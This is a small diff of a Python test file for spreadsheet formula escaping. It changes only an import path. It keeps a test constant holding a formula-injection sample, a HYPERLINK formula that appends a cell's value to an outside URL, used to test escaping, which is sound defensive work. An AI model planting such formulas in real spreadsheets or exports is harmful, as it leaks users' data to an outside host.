@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given as each
 from hypothesis import strategies as st
 
-from genaipa.files.formulas import escape_formula, parse_number, unescape_formula
+from genaipa.files.spreadsheets import escape_formula, parse_number, unescape_formula
 
 FORMULA = '=HYPERLINK("http://example.com/?"&A1)'
 
